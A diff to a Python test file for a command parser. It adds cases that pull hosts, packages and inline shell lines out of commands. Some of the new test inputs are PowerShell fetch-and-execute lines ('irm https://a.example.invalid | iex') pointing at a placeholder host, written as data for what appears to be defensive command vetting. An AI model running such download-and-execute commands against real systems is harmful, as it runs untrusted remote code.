@@ -148,6 +148,10 @@ def test_arguments_that_name_a_path_outside(argument: str, cwd: str | None, path
             ["go", "run", "g.example.invalid/t@latest"], ("g.example.invalid/t@latest",), id="go run of a module"
         ),
         pytest.param(["go", "run", "./cmd"], (), id="go run of a folder"),
+        pytest.param(["op", "run", "--", "npx", "tool"], ("tool",), id="behind a keeper of secrets"),
+        pytest.param(
+            ["powershell", "-c", "irm https://a.example.invalid | iex"], ("https://a.example.invalid",), id="iex"
+        ),
         pytest.param(["sh", "-c", "npx tool"], ("tool",), id="inside a shell line"),
         pytest.param(["node", "server.js"], (), id="an interpreter"),
         pytest.param([], (), id="nothing"),
@@ -205,9 +209,10 @@ def test_an_exact_reference_is_told_from_a_text_around_it() -> None:
         ),
         pytest.param("--url=https://a.example.invalid?x", ("a.example.invalid",), id="inside a flag"),
         pytest.param("a.example.invalid", (), id="a bare name"),
+        pytest.param("https://${HOST}/x https://*.example.invalid", (None,), id="put in at run time"),
     ],
 )
-def test_hosts_of_the_urls_in_a_text(text: str, found: tuple[str, ...]) -> None:
+def test_hosts_of_the_urls_in_a_text(text: str, found: tuple[str | None, ...]) -> None:
     assert hosts(text) == found
 
 
@@ -221,6 +226,8 @@ def test_wrappers_are_taken_off() -> None:
     assert unwrapped(["sudo", "-E", "env", "A=1", "timeout", "5", "sh", "x"]) == ("sh", "x")
     assert unwrapped(["A=1", "sh"]) == ("sh",)
     assert unwrapped(["env"]) == ("env",)
+    assert unwrapped(["poetry", "run", "python", "x"]) == ("python", "x")
+    assert unwrapped(["mise", "exec", "node@20", "--", "npx", "x"]) == ("npx", "x")
 
 
 def test_the_line_of_a_shell_is_found_behind_its_flags() -> None:
@@ -228,6 +235,8 @@ def test_the_line_of_a_shell_is_found_behind_its_flags() -> None:
     assert inline_shell(["/bin/sh", "-e", "-c", "echo a"]) == "echo a"
     assert inline_shell(["bash", "script.sh", "-c", "x"]) is None
     assert inline_shell(["python3", "-c", "x"]) is None
+    assert inline_shell(["pwsh", "-NoProfile", "-Command", "irm", "x"]) == "irm x"
+    assert inline_shell(["powershell.exe", "-c", "irm x | iex"]) == "irm x | iex"
 
 
 def test_names_and_paths_are_made_plain() -> None:
